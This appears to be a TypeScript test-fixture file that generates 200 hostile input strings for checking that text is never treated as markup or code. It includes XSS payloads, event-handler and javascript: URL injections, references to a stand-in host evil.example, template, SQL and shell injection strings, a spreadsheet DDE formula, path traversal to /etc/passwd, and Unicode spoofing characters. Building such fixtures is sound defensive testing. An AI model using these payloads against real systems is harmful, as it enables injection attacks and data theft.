const hack = 'window.__hacked=1';

/** Elements and attributes that run a script where text is taken for HTML. */
const markup = [
  `<script>${hack}</script>`,
  `"><script>${hack}</script>`,
  `'><script>${hack}</script>`,
  `</title><script>${hack}</script>`,
  `</textarea><script>${hack}</script>`,
  `</style><script>${hack}</script>`,
  `--><script>${hack}</script>`,
  `]]><script>${hack}</script>`,
  `<scr<script>ipt>${hack}</scr</script>ipt>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<script type=module>${hack}</script>`,
  `<iframe srcdoc="<script>parent.${hack}</script>">`,
  `<object data="javascript:${hack}">`,
  `<embed src="javascript:${hack}">`,
  `<base href="//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<style>@import '//evil.example/x.css';</style>`,
  `<form action=//evil.example><button>Go</button></form>`,
  `<a href="javascript:${hack}">here</a>`,
  `<a href="data:text/html,<script>${hack}</script>">here</a>`,
  `<div style="background:url(//evil.example/x.png)">x</div>`,
  `<template><script>${hack}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${hack}>">`,
  `<math><mi xlink:href="javascript:${hack}">x</mi></math>`,
  `<svg><script>${hack}</script></svg>`,
  `<svg><a xlink:href="javascript:${hack}"><text y=20>x</text></a></svg>`,
  `<isindex type=image src=x onerror=${hack}>`,
  `&lt;script&gt;${hack}&lt;/script&gt;`,
  `&#60;script&#62;${hack}&#60;/script&#62;`,
  `\u003cscript\u003e${hack}\u003c/script\u003e`,
  `%3Cscript%3E${hack}%3C/script%3E`,
];

const tags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'details open',
  'input autofocus',
  'marquee',
];
const events = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];
const handlers = tags.flatMap((tag) => events.map((event) => `<${tag} ${event}=${hack}>`));

const schemes = ['javascript', 'JaVaScRiPt', ' javascript', 'java\tscript', 'vbscript', 'data'];
const urls = schemes.flatMap((scheme) => [
  `${scheme}:${hack}`,
  `${scheme}:${hack}//https://example.com`,
  `${scheme}://%0a${hack}`,
]);

/** What template engines, shells, databases and spreadsheets would take for their own. */
const templates = [
  ...[
    '{{constructor.constructor("%")()}}',
    '$'.concat('{%}'),
    '#{%}',
    '<%= % %>',
    '{%%}',
    '[[$'.concat('{%}]]'),
  ],
  ...['{{7*7}}', '$t(nav.account)', '{{name}}', '__proto__', 'constructor', 'toString'],
  ...["'; drop table orders; --", '" or ""="', "' or 1=1 --", '%s%s%n', '$(reboot)', '`id`'],
  ...['=1+1', '+1', '-1', '@sum(1)', '=cmd|"/c calc"!A1', '=HYPERLINK("//evil.example")'],
  ...['../../etc/passwd', '..\\\\..\\\\windows', 'null', 'undefined', 'NaN', '[object Object]'],
].map((text) => text.replace('%', hack));

/** What changes the looks of what stands beside it, or is not there to be seen. */
const oddities = [
  ...['\u202Egnp.exe', '\u2066hidden\u2069', '\u200B\u200Bzero', 'a\u0301\u0301\u0301\u0301'],
  ...['\uFEFFbom', '\u00ADsoft', 'ﷺﷺﷺ', '𝕳𝖊𝖑𝖑𝖔', '👨‍👩‍👧‍👦', '繁體字与简体字', 'İstanbul', 'ẞß'],
  ...['Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A', 'שלום', 'مرحبا', 'ＦＵＬＬ', '\u2028line', '\u2029paragraph'],
  ...[
    'long '.repeat(40),
    'W'.repeat(200),
    'a&amp;b',
    '&copy;',
    '&nbsp;',
    '&#x41;',
    'a  b',
    '"',
    "'",
  ],
];

const made = [...markup, ...handlers, ...urls, ...templates, ...oddities];

/** Two hundred texts that must never be more than text, each with a number to find it by. */
export const hostileStrings: readonly string[] = Array.from(
  { length: 200 },
  (_, index) => `${made[index % made.length]} ${index}`,
);
